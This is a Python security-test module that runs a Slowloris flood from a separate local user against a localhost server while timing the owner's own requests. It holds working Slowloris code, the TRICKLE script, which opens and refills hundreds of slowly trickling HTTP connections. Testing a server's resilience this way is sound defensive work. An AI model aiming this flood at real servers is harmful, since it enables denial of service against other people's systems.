"""Slowloris as another local user: many connections that each trickle a header line now
and then, reopened as soon as the server drops them; and the owner's requests meanwhile.

``CORRAL_SEC_FLOOD`` sets the number of connections (default 600, within CI's
``ulimit -n``; the measured run in docs/security.md used 2000)."""

from __future__ import annotations

import json
import os
import subprocess
import threading
import time
from collections.abc import Callable

from tests.security.support import MALLORY, unix_user

CONNECTIONS = int(os.environ.get("CORRAL_SEC_FLOOD", "600"))
SYSTEM_PYTHON = "/usr/bin/python3"  # readable by every user (the test's venv may not be)

# Run by the attacker with the system Python: N trickling connections for D seconds.
TRICKLE = r"""
import json, resource, socket, sys, time
host, port, n, duration, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 256), hard))
socks, opened, dropped, peak = [None] * n, 0, 0, 0
end = time.monotonic() + duration
line = 0
while time.monotonic() < end:
    for i in range(n):
        s = socks[i]
        if s is not None:
            try:
                s.send(b"X-Trickle-%d: a\r\n" % line)
                continue
            except OSError:
                dropped += 1
                s.close()
                socks[i] = None
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.send(("GET %s HTTP/1.1\r\nHost: x\r\n" % path).encode())
            socks[i] = s
            opened += 1
        except OSError:
            pass
    peak = max(peak, sum(s is not None for s in socks))
    line += 1
    time.sleep(1.0)
print(json.dumps({"opened": opened, "dropped": dropped, "peak_open": peak}))
"""


class Flood:
    """The attack, run by ``corral-mallory`` in the background."""

    def __init__(self, port: int, path: str, seconds: float, connections: int = CONNECTIONS):
        unix_user(MALLORY)
        self.proc = subprocess.Popen(
            ["runuser", "-u", MALLORY, "--", SYSTEM_PYTHON, "-c", TRICKLE, "127.0.0.1",
             str(port), str(connections), str(seconds), path],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip

    def result(self) -> dict:
        out, err = self.proc.communicate(timeout=600)
        assert self.proc.returncode == 0, err
        return json.loads(out)


def owner_requests(request: Callable[[], bool], seconds: float) -> dict:
    """``request()`` (True: served as it should be) in a loop for ``seconds``: how many,
    how many failed, and the latency percentiles in ms."""
    latencies, failures = [], []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        start = time.perf_counter()
        try:
            ok = request()
        except Exception as exc:  # a refused or timed-out request counts as failed
            ok = False
            failures.append(repr(exc))
        latencies.append((time.perf_counter() - start) * 1e3)
        if not ok and len(failures) < len(latencies):
            failures.append("wrong reply")
        time.sleep(0.05)
    latencies.sort()

    def pct(q: float) -> float:
        return latencies[min(len(latencies) - 1, int(q * len(latencies)))]

    return {"requests": len(latencies), "failures": failures, "p50_ms": pct(0.5),
            "p99_ms": pct(0.99), "max_ms": latencies[-1]}  # fmt: skip


def sample_while(seconds: float, sample: Callable[[], int]) -> Callable[[], int]:
    """Sample ``sample()`` every 0.2 s in the background; the returned function gives the
    largest value seen (call it after ``seconds``)."""
    peak = [sample()]
    stop = threading.Event()

    def run() -> None:
        end = time.monotonic() + seconds
        while not stop.wait(0.2) and time.monotonic() < end:
            try:
                peak[0] = max(peak[0], sample())
            except Exception:
                return

    thread = threading.Thread(target=run, daemon=True)
    thread.start()

    def result() -> int:
        stop.set()
        thread.join()
        return peak[0]

    return result
